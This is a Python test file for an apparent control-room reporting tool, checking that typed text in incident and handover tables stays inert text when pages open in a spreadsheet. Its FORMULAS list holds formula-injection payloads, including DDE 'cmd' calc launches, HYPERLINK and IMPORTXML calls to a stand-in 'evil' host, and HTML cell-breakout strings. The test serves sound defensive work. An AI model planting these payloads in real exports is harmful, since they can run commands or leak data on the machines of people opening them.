"""What somebody typed is text in every table that leaves the room, whoever opens it."""

import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import msgspec
import pytest

from controlroom import reports
from controlroom.domain import commands as c
from controlroom.domain import events as e
from controlroom.domain.watchkeeping import Handover, Item, Tick
from controlroom.reports.cells import LIBRE, TEXT, cell, marked_cell
from controlroom.reports.handover_page import handover_page
from controlroom.reports.incident_page import Disclosure, incident_page
from tests.helpers.watch import Watch

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","Click")', "+44 7700 900123",
    '=IMPORTXML("http://evil","//a")', "-2+3+cmd|' /C calc'!D2", "\uff1d1+1",
    '"=1+1"', "<b>=1</b>", "</td><td>=1+1", "'=1+1", ";=1+1", ",=1+1",
    '=1+1" style="x', "\u202e1+1=",
)  # fmt: skip
"""What makes a spreadsheet reckon, fetch or run something."""
MADE = Disclosure(by="Ash", at_us=1_795_269_600_000_000)


class Cells(HTMLParser):
    """Reads every cell of a page: its attributes, and its text as it is shown."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.cells: list[tuple[dict[str, str | None], str]] = []
        self._inside = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A cell begins."""
        if tag == "td":
            self._inside = True
            self.cells.append((dict(attrs), ""))

    def handle_endtag(self, tag: str) -> None:
        """A cell ends."""
        self._inside = self._inside and tag != "td"

    def handle_data(self, data: str) -> None:
        """Keep what is in a cell."""
        if self._inside:
            attrs, text = self.cells[-1]
            self.cells[-1] = attrs, text + data


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_cell_is_text_and_shows_what_was_typed(typed: str) -> None:
    """Letter by letter: a page is evidence, and no apostrophe of ours stands in it."""
    ((attrs, text),) = Cells(cell(typed, kind="who", more="<i>!</i>")).cells

    assert f"{typed}!" == unescape(text)
    assert {"class": "who", "style": TEXT, "sdnum": LIBRE} == attrs


def test_every_cell_of_an_incident_is_text() -> None:
    """Whatever the caller, the log and the people are called."""
    watch = Watch()
    incident_id = watch.opened("ROBBERY", place="=1+1", caller="@SUM(1)")
    for typed in FORMULAS:
        watch.happen(e.LogEntryAdded(incident_id=incident_id, text=typed))
    watch.do(c.CorrectLogEntry(
        incident_id=incident_id, seq=watch.incident(incident_id).log[1].seq, text="+2"
    ))  # fmt: skip
    page = incident_page(
        watch.incident(incident_id), watch.picture.codes, lambda _id: "=2+2", MADE
    )
    cells = Cells(page).cells
    shown = " ".join(text for _attrs, text in cells)

    assert len(FORMULAS) * 4 < len(cells)
    assert [] == [text for attrs, text in cells if TEXT != attrs.get("style")]
    assert [] == [text for attrs, text in cells if LIBRE != attrs.get("sdnum")]
    # Line ends are read as one kind by every browser.
    assert [] == [x for x in FORMULAS if x.replace("\r", "\n") not in shown]


def test_every_cell_of_a_handover_is_text() -> None:
    """Items, and who took them on; an empty one too."""
    items = tuple(
        Item(key=typed, kind="risk", incident_id="", text=typed) for typed in FORMULAS
    )
    handover = Handover(
        handover_id="hov_1", sectors=(), items=items, begun_by="per_ash", begun_at_us=0,
        ticks=(Tick(key=FORMULAS[0], by="per_ash", at_us=0),),
    )  # fmt: skip
    for each in (handover, msgspec.structs.replace(handover, items=())):
        codes = Watch().picture.codes
        cells = Cells(handover_page(each, codes, lambda _id: "=2+2", MADE)).cells

        assert 3 * (len(each.items) or 1) == len(cells)
        assert {(TEXT, LIBRE)} == {(a.get("style"), a.get("sdnum")) for a, _ in cells}


def test_no_table_is_made_elsewhere() -> None:
    """Every report gets its cells from the one place; none writes rows of its own."""
    folder = Path(str(reports.__file__)).parent
    made = {
        path.name
        for path in folder.glob("*.py")
        if re.search(r"<td|csv\.writer|writerow", path.read_text("utf-8"))
    }

    assert {"cells.py"} == made
    assert "<td" in marked_cell("")
